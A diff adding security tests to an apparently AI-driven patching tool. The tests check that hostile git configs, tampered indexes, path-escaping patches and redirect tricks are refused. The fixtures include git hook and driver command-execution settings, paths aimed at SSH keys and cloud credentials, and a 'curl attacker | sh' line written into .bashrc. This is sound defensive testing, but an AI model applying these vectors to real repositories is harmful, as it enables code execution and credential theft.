@@ -11,6 +11,7 @@ from __future__ import annotations
 
 import hashlib
 import os
+import re
 from pathlib import Path
 from typing import Any
 
@@ -2083,3 +2084,476 @@ def test_setup_network_metadata_and_lan_rules_are_in_place_for_every_setup(
     assert any("-d 169.254.0.0/16" in r and f"-i {interface}" in r for r in ours), ours
     assert any(r.startswith(f"-A INPUT -i {interface}") and r.endswith("DROP") for r in ours)
     assert all(f"-i {interface}" in r for r in ours)
+# ---- host git, second pass (SECURITY 35-36) ----
+# The user's own repository is a tree host git handles too: its `.git/config` (a tarball's,
+# or one a setup script wrote) may define drivers, and its index and working tree may name
+# files beyond a symlink or above the tree. Each driver would touch a file in `marker_dir`.
+
+
+def redgit_user_repo(example_repo: Any, markers: Path, own_config: str) -> Path:
+    """The Python example whose `.gitattributes` selects drivers for every file and whose
+    own `.git/config` defines them (the repository's, not a file in the tree)."""
+    repo = hostgit_repo(example_repo, markers, {
+        ".gitattributes": "* filter=evil diff=evil merge=evil\n*.py filter=fmt\n",
+        "tools/fmt.sh": "#!/bin/sh\ncat\n",
+    })  # fmt: skip
+    with (repo / ".git" / "config").open("a") as config:
+        config.write(own_config)
+    return repo
+
+
+def test_drivers_in_the_user_repos_own_git_config_never_run_at_deliver_security_35(
+    example_repo: Any, scripted: Any, run_cli: Any, marker_dir: Path
+) -> None:
+    """SECURITY 35, CLI: the user's repository defines filter, diff and merge drivers in its
+    own `.git/config`, selected by its `.gitattributes`. `git apply` on the working tree (a
+    clean filter for every file it reads, a smudge for every file it writes) and the
+    deliver-time summary would run them: neither reads that configuration."""
+    repo = redgit_user_repo(example_repo, marker_dir, hostgit_config(marker_dir))
+    before = tree_digest(repo)
+    run = hostgit_fix(run_cli, scripted, repo, sandbox="local")
+    hostgit_assert_delivered(run, repo, before, marker_dir)
+    deliver = [e for e in run.of_type("stage") if e["stage"] == "deliver"][-1]
+    assert deliver["files"] == [" 1 file changed, 1 insertion(+), 1 deletion(-)"]
+
+
+def test_a_repo_filter_running_a_script_the_patch_rewrites_never_runs_security_35(
+    example_repo: Any, scripted: Any, run_cli: Any, marker_dir: Path
+) -> None:
+    """SECURITY 35, CLI: the user's `.git/config` runs `sh tools/fmt.sh` as a filter (a
+    setup script's doing). The model rewrites that script; delivering the patch must not run
+    the rewritten script on the host (model-written code as a host filter)."""
+    own = '[filter "fmt"]\n\tclean = sh tools/fmt.sh\n\tsmudge = sh tools/fmt.sh\n'
+    repo = redgit_user_repo(example_repo, marker_dir, own)
+    script = f"#!/bin/sh\ntouch {marker_dir}/patched-filter-script\ncat\n"
+    before = tree_digest(repo)
+    run = hostgit_fix(
+        run_cli, scripted, repo, tool("write_file", path="tools/fmt.sh", content=script),
+        sandbox="local",
+    )  # fmt: skip
+    hostgit_assert_delivered(run, repo, before, marker_dir, "tools/fmt.sh")
+    assert (repo / "tools/fmt.sh").read_text() == script
+
+
+def redgit_index_entry(repo: Path, placeholder: str, name: str) -> None:
+    """Rename the index entry `placeholder` to `name` (same length) in the raw index, as a
+    tarball's or a tampered `.git` could carry: git itself refuses to add such a path."""
+    import hashlib as _hashlib
+
+    assert len(placeholder) == len(name)
+    from tests.conftest import git
+
+    git("add", placeholder, cwd=repo)
+    raw = (repo / ".git" / "index").read_bytes()[:-20]
+    assert raw.count(placeholder.encode()) == 1
+    raw = raw.replace(placeholder.encode(), name.encode())
+    (repo / ".git" / "index").write_bytes(raw + _hashlib.sha1(raw).digest())
+    (repo / placeholder).unlink()
+
+
+def test_snapshot_copies_nothing_through_a_symlinked_directory_security_35(
+    tmp_path: Path,
+) -> None:
+    """SECURITY 35 (and 18): the index names `keys/id_rsa` while `keys` in the working tree
+    is an ignored symlink to a directory outside it (a directory the user swapped for a
+    link, or a tampered index). The snapshot the sandbox gets holds no file from there."""
+    from loopwright.sandbox.workspace import git, snapshot
+
+    outside = write(tmp_path / "home" / ".ssh" / "id_rsa", "CANARY-PRIVATE-KEY\n").parent
+    repo = tmp_path / "user"
+    write(repo / "app.py", "x = 1\n")
+    write(repo / ".gitignore", "/keys\n")
+    init_repo(repo)
+    write(repo / "keys" / "id_rsa", "placeholder\n")
+    from tests.conftest import git as test_git
+
+    test_git("add", "-f", "keys/id_rsa", cwd=repo)
+    (repo / "keys" / "id_rsa").unlink()
+    (repo / "keys").rmdir()
+    os.symlink(outside, repo / "keys")
+    base = tmp_path / "base"
+    snapshot(repo, base)
+    assert not (base / "keys").exists()
+    assert sorted(git(["ls-files"], base).split()) == [".gitignore", "app.py"]
+    assert all("CANARY" not in p.read_text() for p in base.rglob("*") if p.is_file()
+               and ".git" not in p.relative_to(base).parts)  # fmt: skip
+
+
+def test_snapshot_never_follows_an_index_entry_above_the_tree_security_35(
+    tmp_path: Path,
+) -> None:
+    """SECURITY 35: a tampered index names `../outside.txt`. The snapshot neither copies the
+    file above the repository nor writes anything next to the snapshot."""
+    from loopwright.sandbox.workspace import git, snapshot
+
+    repo = tmp_path / "deep" / "user"
+    write(repo / "app.py", "x = 1\n")
+    init_repo(repo)
+    write(tmp_path / "deep" / "outside.txt", "CANARY-ABOVE-THE-TREE\n")
+    write(repo / "aa" / "outside.txt", "placeholder\n")
+    redgit_index_entry(repo, "aa/outside.txt", "../outside.txt")
+    base = tmp_path / "snap" / "base"
+    snapshot(repo, base)
+    assert not (tmp_path / "snap" / "outside.txt").exists()
+    assert sorted(git(["ls-files"], base).split()) == ["app.py"]
+
+
+REDGIT_TOKEN = "ghs_REDGITREDIRECTCANARY000000000"
+
+
+def redgit_listener(kind: str, seen: list[tuple[str, str | None]], *, to: str = "",
+                    auth_first: bool = False) -> Any:  # fmt: skip
+    """A listener of the test's own on 127.0.0.1: the "origin" redirects every request to
+    `to` (after asking for credentials first when `auth_first`); the "elsewhere" one asks
+    for credentials and records what it gets."""
+    import threading
+    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+    class Handler(BaseHTTPRequestHandler):
+        def log_message(self, format: str, *args: Any) -> None:
+            pass
+
+        def do_GET(self) -> None:
+            auth = self.headers.get("Authorization")
+            seen.append((kind, auth))
+            if kind == "elsewhere" or (auth_first and not auth):
+                self.send_response(401)
+                self.send_header("WWW-Authenticate", 'Basic realm="git"')
+            else:
+                self.send_response(302)
+                self.send_header("Location", to + self.path)
+            self.send_header("Content-Length", "0")
+            self.end_headers()
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    return server
+
+
+@pytest.mark.parametrize("auth_first", [False, True])
+def test_a_redirect_from_the_computed_url_carries_no_token_elsewhere_security_36(
+    tmp_path: Path, auth_first: bool
+) -> None:
+    """SECURITY 36: the server at the URL the host computed answers with a redirect to
+    another listener (before or after it has seen the token). Git follows it, and the other
+    listener never sees an Authorization header: the helper answers only for the computed
+    URL, and the credentials never travel with the redirect."""
+    from loopwright.github.gitops import GitError, remote_branch
+
+    seen: list[tuple[str, str | None]] = []
+    elsewhere = redgit_listener("elsewhere", seen)
+    origin = redgit_listener(
+        "origin", seen, to=f"http://127.0.0.1:{elsewhere.server_address[1]}",
+        auth_first=auth_first,
+    )  # fmt: skip
+    try:
+        tree = tmp_path / "tree"
+        tree.mkdir()
+        from tests.conftest import git as test_git
+
+        test_git("init", "-q", cwd=tree)
+        url = f"http://127.0.0.1:{origin.server_address[1]}/octo/app.git"
+        with pytest.raises(GitError) as failed:
+            remote_branch(tree, "loopwright/fix-1", "0" * 40, REDGIT_TOKEN, url=url)
+    finally:
+        origin.shutdown()
+        elsewhere.shutdown()
+    assert REDGIT_TOKEN not in str(failed.value)
+    assert ("elsewhere", None) in seen
+    assert all(auth is None for kind, auth in seen if kind == "elsewhere")
+    sent = [auth for kind, auth in seen if kind == "origin" and auth]
+    assert len(sent) == (1 if auth_first else 0)
+
+
+def test_cli_clone_runs_nothing_the_source_repos_own_config_names_security_35(
+    tmp_path: Path, marker_dir: Path
+) -> None:
+    """SECURITY 35: cloning a `file://` URL runs git-upload-pack on the host inside the
+    source repository, which reads that repository's own `.git/config`. Its
+    `uploadpack.packObjectsHook`, `core.alternateRefsCommand`, fsmonitor, hooks path and
+    ssh command, and hooks in its `.git/hooks`, run nothing."""
+    from loopwright.sandbox.workspace import clone
+
+    source = tmp_path / "source"
+    write(source / "app.py", "x = 1\n")
+    init_repo(source)
+    hostgit_hooks(source / ".git" / "hooks", marker_dir)
+    hostgit_hooks(marker_dir.parent / "hostgit-hooks", marker_dir)
+    with (source / ".git" / "config").open("a") as config:
+        config.write(
+            f"[uploadpack]\n\tpackObjectsHook = touch {marker_dir}/pack-objects-hook;\n"
+            f"[core]\n\talternateRefsCommand = touch {marker_dir}/alternate-refs\n"
+            f"\tfsmonitor = touch {marker_dir}/core-fsmonitor\n"
+            f"\thooksPath = {marker_dir.parent}/hostgit-hooks\n"
+            f"\tsshCommand = touch {marker_dir}/core-ssh\n"
+        )
+    copy = clone(f"file://{source}", tmp_path / "trees" / "clone")
+    assert sorted(p.name for p in marker_dir.iterdir()) == []
+    assert (copy / "app.py").read_text() == "x = 1\n"
+
+
+def redgit_new(path: str, body: str = "planted", mode: str = "100644") -> str:
+    tail = "\n\\ No newline at end of file\n" if mode == "120000" else "\n"
+    return (
+        f"diff --git a/{path} b/{path}\nnew file mode {mode}\n--- /dev/null\n"
+        f"+++ b/{path}\n@@ -0,0 +1 @@\n+{body}{tail}"
+    )
+
+
+REDGIT_OUT = "@OUT@"
+REDGIT_PATCHES = {
+    "through-a-committed-symlink": (redgit_new("link/new.txt"), "beyond a symbolic link"),
+    "through-a-symlink-the-patch-makes": (
+        redgit_new("s2", REDGIT_OUT, "120000") + redgit_new("s2/new.txt"),
+        "beyond a symbolic link",
+    ),
+    "dotdot": (redgit_new("../outside/new.txt"), "invalid path"),
+    "dotdot-in-the-middle": (redgit_new("a/../../outside/new.txt"), "invalid path"),
+    "absolute": (redgit_new(f"{REDGIT_OUT}/abs.txt"), "invalid path"),
+    "dot-git-trailing-dot": (redgit_new(".git./hooks/post-commit"), "invalid path"),
+    "dot-git-trailing-space": (redgit_new(".git /hooks/post-commit"), "invalid path"),
+    "ntfs-short-name": (redgit_new("git~1/hooks/post-commit"), "invalid path"),
+    "ntfs-stream": (redgit_new(".git::$INDEX_ALLOCATION/hooks/post-commit"), "invalid path"),
+    "gitmodules-symlink": (
+        redgit_new(".gitmodules", f"{REDGIT_OUT}/v.txt", "120000"),
+        "invalid path",
+    ),
+    "rename-out-of-the-tree": (
+        "diff --git a/app.py b/../outside/moved.py\nsimilarity index 100%\n"
+        "rename from app.py\nrename to ../outside/moved.py\n",
+        "invalid path",
+    ),
+    "delete-through-a-committed-symlink": (
+        "diff --git a/link/v.txt b/link/v.txt\ndeleted file mode 100644\n--- a/link/v.txt\n"
+        "+++ /dev/null\n@@ -1 +0,0 @@\n-victim\n",
+        "link/v.txt",
+    ),
+}
+
+
+@pytest.mark.parametrize("name", sorted(REDGIT_PATCHES))
+def test_a_patch_never_writes_outside_the_tree_or_into_git_security_35(
+    tmp_path: Path, name: str
+) -> None:
+    """SECURITY 35 (and 18): a patch that reaches outside the tree (through a committed
+    symlink or one it creates, with `..` or an absolute path, by renaming) or into a git
+    directory by an alias (`.git.`, `.git `, `git~1`, an NTFS stream name, `.gitmodules`
+    as a symlink) is refused as a whole: nothing outside changes, the tree is as it was."""
+    from loopwright.sandbox.workspace import WorkspaceError, apply_patch
+
+    outside = tmp_path / "outside"
+    write(outside / "v.txt", "victim\n")
+    tree = tmp_path / "tree"
+    write(tree / "app.py", "x = 1\n")
+    os.symlink(outside, tree / "link")
+    init_repo(tree)
+    before, outside_before = tree_digest(tree), tree_digest(outside)
+    patch, reason = REDGIT_PATCHES[name]
+    with pytest.raises(WorkspaceError, match=r"git apply failed: .*" + re.escape(reason)):
+        apply_patch(tree, patch.replace(REDGIT_OUT, str(outside)))
+    assert tree_digest(tree) == before
+    assert tree_digest(outside) == outside_before
+
+
+def redgit_worktree_config(tree: Path, rewrite: str) -> None:
+    """The rewrite in `.git/config.worktree`, which git reads once the repository turns
+    on `extensions.worktreeConfig`; `.git/config` itself names no routing setting."""
+    from tests.conftest import git
+
+    git("config", "core.repositoryformatversion", "1", cwd=tree)
+    git("config", "extensions.worktreeConfig", "true", cwd=tree)
+    write(tree / ".git" / "config.worktree", rewrite)
+
+
+def redgit_gitdir_file(tree: Path, rewrite: str) -> None:
+    """`.git` turned into a file that points git at the moved git directory, whose config
+    carries the rewrite: there is no `.git/config` to look at."""
+    moved = tree.parent / "moved-git-dir"
+    (tree / ".git").rename(moved)
+    with (moved / "config").open("a") as config:
+        config.write(rewrite)
+    write(tree / ".git", f"gitdir: {moved}\n")
+
+
+@pytest.mark.parametrize("plant", [redgit_worktree_config, redgit_gitdir_file],
+                         ids=["config-worktree", "gitdir-file"])  # fmt: skip
+def test_a_rewrite_git_reads_from_outside_dot_git_config_is_refused_security_36(
+    tmp_path: Path, plant: Any
+) -> None:
+    """SECURITY 36: a `pushInsteadOf` to a listener of the test's own, carried by a
+    configuration file git reads besides `.git/config` (the worktree config, or the config
+    of a directory a `.git` file points to), is refused before any request: nothing is
+    pushed or fetched, and neither server sees a request."""
+    from loopwright.github.gitops import (
+        GitError,
+        clone_at,
+        commit_patch,
+        push_branch,
+        remote_branch,
+    )
+    from tests.conftest import git
+    from tests.fakes.git_server import GitServer
+
+    source = tmp_path / "source"
+    write(source / "app.py", "x = 1\n")
+    init_repo(source)
+    sha = git("rev-parse", "HEAD", cwd=source).strip()
+    (tmp_path / "srv").mkdir()
+    (tmp_path / "evil").mkdir()
+    with (
+        GitServer(tmp_path / "srv", token=REDGIT_TOKEN) as server,
+        GitServer(tmp_path / "evil", token="ghs_ATTACKERBAIT000000000000") as attacker,
+    ):
+        server.create_repo("octo/app", source)
+        attacker.create_repo("octo/app", source)
+        url = server.repo_url("octo/app")
+        tree = clone_at(url, sha, tmp_path / "clone", REDGIT_TOKEN)
+        patch = "--- a/app.py\n+++ b/app.py\n@@ -1 +1 @@\n-x = 1\n+x = 2\n"
+        commit_patch(tree, "diff --git a/app.py b/app.py\n" + patch, "Fix", "m1")
+        plant(tree, f'[url "{attacker.url}/"]\n\tpushInsteadOf = {server.url}/\n')
+        before = len(server.requests)
+        with pytest.raises(GitError, match=r"sets url\..*pushinsteadof in .*never writes"):
+            push_branch(tree, "loopwright/fix-9", REDGIT_TOKEN, replace=None, url=url)
+        with pytest.raises(GitError, match="never writes"):
+            remote_branch(tree, "loopwright/fix-9", sha, REDGIT_TOKEN, url=url)
+        assert attacker.requests == [] and len(server.requests) == before
+        assert (
+            git("for-each-ref", cwd=tmp_path / "evil" / "octo" / "app.git").count(
+                "loopwright/fix-9"
+            )
+            == 0
+        )
+
+
+def test_snapshot_of_a_repo_whose_core_worktree_names_another_repository_is_refused_security_35(
+    tmp_path: Path,
+) -> None:
+    """SECURITY 35: the `.git/config` of the directory the user named (a tarball's) sets
+    `core.worktree` to another repository, such as a home directory kept in git. Git would
+    list and the snapshot copy that directory's files; it is refused with what to fix, and
+    a linked worktree (`git worktree add`, a `.git` file) still snapshots as before."""
+    from loopwright.sandbox.workspace import WorkspaceError, git, snapshot
+    from tests.conftest import git as test_git
+
+    home = tmp_path / "home"
+    write(home / ".aws" / "credentials", "CANARY-CLOUD-KEY\n")
+    init_repo(home)
+    repo = tmp_path / "download"
+    write(repo / "app.py", "x = 1\n")
+    init_repo(repo)
+    test_git("config", "core.worktree", str(home), cwd=repo)
+    with pytest.raises(WorkspaceError, match=r"sets its work tree to .*core\.worktree"):
+        snapshot(repo, tmp_path / "base")
+    assert not (tmp_path / "base").exists()
+
+    test_git("config", "--unset", "core.worktree", cwd=repo)
+    test_git("worktree", "add", "-q", str(tmp_path / "linked"), cwd=repo)
+    snapshot(tmp_path / "linked", tmp_path / "linked-base")
+    assert git(["ls-files"], tmp_path / "linked-base").split() == ["app.py"]
+
+
+def test_snapshot_skips_names_git_treats_as_a_git_directory_security_35(
+    tmp_path: Path,
+) -> None:
+    """SECURITY 35: untracked `.git /`, `.GIT./`, `git~1/` and `.git::$INDEX_ALLOCATION/`
+    directories in the user's tree (names git treats as `.git` on some file systems and
+    refuses to add) are left out like `.git` itself, and the snapshot still works."""
+    from loopwright.sandbox.workspace import git, snapshot
+
+    repo = tmp_path / "user"
+    write(repo / "app.py", "x = 1\n")
+    init_repo(repo)
+    for name in (".git ", ".GIT.", "git~1", ".git::$INDEX_ALLOCATION"):
+        write(repo / name / "hooks" / "post-commit", "#!/bin/sh\nexit 1\n")
+    snapshot(repo, tmp_path / "base")
+    assert git(["ls-files"], tmp_path / "base").split() == ["app.py"]
+    assert sorted(p.name for p in (tmp_path / "base").iterdir()) == [".git", "app.py"]
+
+
+@pytest.mark.parametrize("path", [":{path}", "{path}:", ".:{path}", "{path}::bin"])
+def test_a_program_in_the_tree_never_runs_through_a_relative_path_entry_security_35(
+    tmp_path: Path, marker_dir: Path, monkeypatch: pytest.MonkeyPatch, path: str
+) -> None:
+    """SECURITY 35: the operator's PATH has an empty or relative entry (a stray colon, `.`),
+    which a shell reads as the working directory. Host git runs `ssh` for an ssh remote
+    from a tree that carries an executable `ssh`; it must be the system's, never the tree's."""
+    from loopwright import git as host_git
+
+    tree = tmp_path / "tree"
+    tree.mkdir()
+    (tree / "bin").mkdir()
+    for fake in (tree / "ssh", tree / "bin" / "ssh"):
+        write(fake, f"#!/bin/sh\ntouch {marker_dir}/ssh-from-the-tree\n").chmod(0o755)
+    from tests.conftest import git
+
+    git("init", "-q", cwd=tree)
+    # The system's directories come after the tree's where the entry leads.
+    monkeypatch.setenv("PATH", path.format(path=os.environ["PATH"]))
+    url = "ssh://git@127.0.0.1:1/octo/app.git"
+    proc = host_git.run(["ls-remote", url], tree, remote=url)
+    assert proc.returncode != 0
+    assert sorted(p.name for p in marker_dir.iterdir()) == []
+    entries = host_git.environment(tmp_path / "home")["PATH"].split(os.pathsep)
+    assert entries and all(os.path.isabs(entry) for entry in entries)
+
+
+def test_action_token_never_follows_a_clone_url_rewritten_in_the_event_file_security_36(
+    world: Any,  # noqa: F811 - the Action's world fixture, imported above
+) -> None:
+    """SECURITY 36, Action mode: the test step that ran before Loopwright in the same job
+    runs the pull request's code, and the event file (`GITHUB_EVENT_PATH`) is a file in the
+    runner's temporary directory it can rewrite. It points `repository.clone_url` at a git
+    server of the test's own on 127.0.0.1: that server must never see the workflow's token."""
+    from tests.conftest import git
+    from tests.fakes.git_server import GitServer
+
+    (world.tmp / "evil").mkdir()
+    with GitServer(world.tmp / "evil", token="ghs_ATTACKERBAIT000000000000") as attacker:
+        workspace = world.tmp / "checkout"
+        git("clone", "-q", "-b", "feature", world.git.repo_url(HOSTGIT_ACTION_REPO),
+            str(workspace), cwd=world.tmp)  # fmt: skip
+        attacker.create_repo(HOSTGIT_ACTION_REPO, workspace)
+        sha = git("rev-parse", "HEAD", cwd=workspace).strip()
+        payload = world.repository(hostgit_action_example("workflow_dispatch", None))
+        payload["repository"]["clone_url"] = attacker.repo_url(HOSTGIT_ACTION_REPO)
+        run = world.run(
+            "workflow_dispatch",
+            payload,
+            workspace=workspace,
+            sha=sha,
+            ref="refs/heads/feature",
+            inputs={"INPUT_DELIVER": "commit", "INPUT_TEST_COMMAND": "python -m pytest -q"},
+        )
+        leaked = [r for r in attacker.requests if world.token in _redgit_password(r)]
+        assert leaked == [] and attacker.requests == []
+        assert run.exit_code == 0, run.stderr
+        assert run.outputs["status"] == "verified"
+        pushed = git("show", "feature", "--format=%ae%n%P", cwd=world.bare)
+        assert FIX_NEW.strip() in pushed and sha in pushed
+
+
+def _redgit_password(request: dict[str, Any]) -> str:
+    import base64
+
+    header = request.get("authorization") or ""
+    if not header.startswith("Basic "):
+        return ""
+    return base64.b64decode(header[6:]).decode(errors="replace").partition(":")[2]
+
+
+def test_deliver_never_patches_the_directory_core_worktree_names_security_35(
+    tmp_path: Path,
+) -> None:
+    """SECURITY 35, CLI deliver: the user's repository (at `home/proj`) sets `core.worktree`
+    to `home`. The patch is refused instead of landing in `home`, and nothing is written."""
+    from loopwright.sandbox.workspace import WorkspaceError, apply_patch
+    from tests.conftest import git as test_git
+
+    repo = tmp_path / "home" / "proj"
+    write(repo / "app.py", "x = 1\n")
+    init_repo(repo)
+    test_git("config", "core.worktree", str(tmp_path / "home"), cwd=repo)
+    before = tree_digest(tmp_path / "home")
+    with pytest.raises(WorkspaceError, match=r"core\.worktree"):
+        apply_patch(repo, redgit_new(".bashrc", "curl attacker | sh"))
+    assert tree_digest(tmp_path / "home") == before
